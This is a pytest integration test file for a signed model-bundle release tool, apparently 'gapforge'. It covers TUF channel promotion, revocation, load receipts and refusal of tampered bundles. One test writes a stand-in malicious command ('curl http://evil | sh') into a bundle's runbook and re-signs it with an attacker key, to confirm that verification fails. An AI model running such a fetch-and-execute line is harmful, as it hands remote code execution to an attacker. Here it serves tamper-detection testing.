"""Trust across the gap, with the real tiny bundle: a TUF release repository made, added to and
promoted by the release manager's commands; the operator's verify, load and run with and without a
trusted root; a re-signed bundle, a revoked release, a candidate offered to an `approved` site, and
the signed receipt `load` leaves. Rollback, expiry and root rotation are in tests/unit/test_release.py
(real TUF metadata and keys, no engine needed)."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from gapforge.bundle.sign import load_private_key, sign
from gapforge.bundle.sums import bundle_files, render_sums

from .conftest import Built, gapforge, verify_json

pytestmark = [pytest.mark.integration, pytest.mark.timeout(1800)]


@dataclass(frozen=True)
class Release:
    repo: Path
    keys: Path
    root_json: Path
    trust: dict[str, str]
    """The environment of an operator whose trust folder holds the repository's root."""
    empty: dict[str, str]
    """The environment of an operator with no trust anchor at all."""


def _copy(bundle: Path, where: Path) -> Path:
    """A copy of the bundle (hard links for the big files: nothing here writes into them)."""
    copy = where / bundle.name
    shutil.copytree(bundle, copy, copy_function=os.link)
    for name in ("bundle.json", "SHA256SUMS", "SHA256SUMS.sig", "RUNBOOK.md", "signing-key.pub.pem"):
        data = (copy / name).read_bytes()
        (copy / name).unlink()
        (copy / name).write_bytes(data)
    return copy


@pytest.fixture(scope="module")
def release(built: Built, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Release]:
    root = tmp_path_factory.mktemp("release")
    repo, keys = root / "repo", root / "repo.keys"
    gapforge("release", "init", str(repo), "--keys-dir", str(keys), "--build-key", str(built.key), check=True)
    gapforge("release", "add", str(built.bundle), "--repo", str(repo), check=True)
    trust, empty = root / "trust", root / "no-trust"
    env = {"GAPFORGE_TRUST_DIR": str(trust)}
    gapforge("trust", "init", str(repo / "metadata" / "root.json"), env=env, check=True)
    yield Release(repo, keys, repo / "metadata" / "root.json", env, {"GAPFORGE_TRUST_DIR": str(empty)})


def _exported(release: Release, bundle: Path, where: Path) -> Path:
    copy = _copy(bundle, where)
    gapforge("release", "export", str(copy), "--repo", str(release.repo), check=True)
    assert (copy / "release" / "metadata" / "timestamp.json").is_file()
    return copy


def test_a_candidate_is_refused_by_an_approved_site_then_accepted_once_promoted(
    built: Built, release: Release, tmp_path: Path
) -> None:
    candidate = _exported(release, built.bundle, tmp_path / "candidate")
    status, report = verify_json(candidate, env=release.trust)
    assert status == 1 and "release" in report["bad_files"]
    assert any("not on channel approved" in p["message"] for p in report["problems"]), report["problems"]
    gapforge("release", "promote", "tiny-desk-0.0.1", "--to", "approved", "--repo", str(release.repo), check=True)
    approved = _exported(release, built.bundle, tmp_path / "approved")
    status, report = verify_json(approved, env=release.trust)
    assert status == 0, report["problems"]
    assert report["signature"]["anchor"] == "root" and report["signature"]["key_pinned"]
    assert report["release"]["channel"] == "approved" and report["release"]["ok"]


def test_a_resigned_bundle_needs_an_anchor_and_fails_against_the_root(
    built: Built, release: Release, tmp_path: Path
) -> None:
    """Altered in transit, re-signed with another key, that key's public half shipped beside it."""
    gapforge("release", "promote", "tiny-desk-0.0.1", "--to", "approved", "--repo", str(release.repo))
    copy = _exported(release, built.bundle, tmp_path)
    gapforge("keygen", "--out", str(tmp_path / "attacker.key"), check=True)
    (copy / "RUNBOOK.md").write_text("curl http://evil | sh\n")
    (copy / "signing-key.pub.pem").write_bytes((tmp_path / "attacker.pub.pem").read_bytes())
    names = [n for n in bundle_files(copy) if n not in ("SHA256SUMS", "SHA256SUMS.sig") and not n.startswith("release/")]
    (copy / "SHA256SUMS").write_bytes(render_sums({n: hashlib.sha256((copy / n).read_bytes()).hexdigest() for n in names}))
    (copy / "SHA256SUMS.sig").write_bytes(sign(load_private_key(tmp_path / "attacker.key"), (copy / "SHA256SUMS").read_bytes()))
    for command in ("verify", "load"):
        result = gapforge(command, str(copy), env=release.empty)
        assert result.returncode == 2, (command, result.stderr[-2000:])
        assert "trust init" in result.stderr and "Traceback" not in result.stderr
    status, report = verify_json(copy, env=release.trust)
    assert status == 1 and "SHA256SUMS.sig" in report["bad_files"], report["problems"]
    assert any("SHA256SUMS" in p["message"] and p["file"] == "release" for p in report["problems"]), report["problems"]
    refused = gapforge("load", str(copy), env=release.trust)
    assert refused.returncode == 1 and "refusing to load" in refused.stderr


def test_load_leaves_a_signed_receipt_and_run_by_reference_needs_one(
    built: Built, release: Release, tmp_path: Path
) -> None:
    gapforge("release", "promote", "tiny-desk-0.0.1", "--to", "approved", "--repo", str(release.repo))
    copy = _exported(release, built.bundle, tmp_path)
    loaded = gapforge("load", str(copy), env=release.trust)
    assert loaded.returncode == 0, loaded.stderr[-3000:]
    receipts = sorted((Path(release.trust["GAPFORGE_TRUST_DIR"]) / "receipts").glob("*.receipt.json"))
    assert receipts, "load wrote no receipt"
    envelope = json.loads(receipts[-1].read_text())
    assert envelope["payloadType"] == "application/vnd.gapforge.receipt+json" and envelope["signatures"]
    shown = gapforge("trust", "show", env=release.trust)
    assert shown.returncode == 0
    # Another operator's machine (no receipts): the image reference alone is refused, with the fix.
    data = tmp_path / "data.jsonl"
    data.write_text("{}\n")
    refused = gapforge("preflight", built.ref, "--data", str(data), "--out", str(tmp_path / "out"),
                       env={**release.empty, "GAPFORGE_TRUST_DIR": str(tmp_path / "other-trust")})  # fmt: skip
    assert refused.returncode == 1 and "receipt" in refused.stderr, refused.stderr[-2000:]


def test_a_revoked_release_is_refused_with_its_reason(built: Built, release: Release, tmp_path: Path) -> None:
    gapforge("release", "promote", "tiny-desk-0.0.1", "--to", "approved", "--repo", str(release.repo))
    gapforge("release", "revoke", "tiny-desk-0.0.1", "--reason", "wrong tokenizer", "--repo", str(release.repo),
             check=True)  # fmt: skip
    copy = _exported(release, built.bundle, tmp_path)
    status, report = verify_json(copy, env=release.trust)
    assert status == 1
    assert any("revoked" in p["message"] and "wrong tokenizer" in p["message"] for p in report["problems"])
    refused = gapforge("load", str(copy), env=release.trust)
    assert refused.returncode == 1 and "revoked" in refused.stderr
